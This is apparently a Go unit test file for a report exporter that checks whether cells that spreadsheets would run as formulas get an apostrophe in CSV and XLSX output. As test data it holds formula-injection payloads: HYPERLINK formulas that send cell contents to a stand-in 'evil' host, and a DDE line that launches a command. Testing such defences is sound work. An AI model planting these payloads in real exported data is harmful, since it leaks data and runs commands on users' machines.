package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestSpreadsheetSafe: text a spreadsheet would run as a formula gets an apostrophe;
// numbers and plain text stay as they are.
func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil/?"&A1,"x")`: `'=HYPERLINK("http://evil/?"&A1,"x")`,
		"+cmd|' /C calc'!A0":                 "'+cmd|' /C calc'!A0",
		"-2+3":                               "'-2+3",
		"@SUM(A1:A2)":                        "'@SUM(A1:A2)",
		"\t=1":                               "'\t=1",
		"\r=1":                               "'\r=1",
		"-5":                                 "-5",
		"+1.5":                               "+1.5",
		"Printer jam":                        "Printer jam",
		"":                                   "",
		"a=b":                                "a=b",
	} {
		if got := spreadsheetSafe(in); got != want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestFormulaInjection: a category from the data that is a formula comes out as text
// in every CSV and XLSX writer.
func TestFormulaInjection(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	r := &Result{Title: "Calls by category", By: "category", Rows: []Row{{Value: evil, Calls: 3}, {Value: "Printing", Calls: -0}}, Total: 3}
	var b bytes.Buffer
	if err := Write(&b, CSV, r); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[1][0] != "'"+evil {
		t.Errorf("result CSV cell %q, want it neutralised", recs[1][0])
	}
	b.Reset()
	if err := WriteGrid(&b, CSV, &Grid{Columns: []string{"reason", "n"}, Rows: [][]string{{"@evil", "-3"}}}); err != nil {
		t.Fatal(err)
	}
	if got := b.String(); !strings.Contains(got, "'@evil,-3") {
		t.Errorf("grid CSV %q: want '@evil and the number -3 kept", got)
	}
	b.Reset()
	m := r.measures()
	if err := WriteMeasures(&b, CSV, m); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `"'=HYPERLINK(`) {
		t.Errorf("measures CSV %q: want the formula neutralised", b.String())
	}
	b.Reset()
	if err := WriteMeasures(&b, XLSX, m); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	sheet := x.GetSheetList()[1]
	if f, _ := x.GetCellFormula(sheet, "A2"); f != "" {
		t.Errorf("XLSX A2 holds a formula %q", f)
	}
	if v, _ := x.GetCellValue(sheet, "A2"); v != "'"+evil {
		t.Errorf("XLSX A2 = %q, want the neutralised text", v)
	}
}
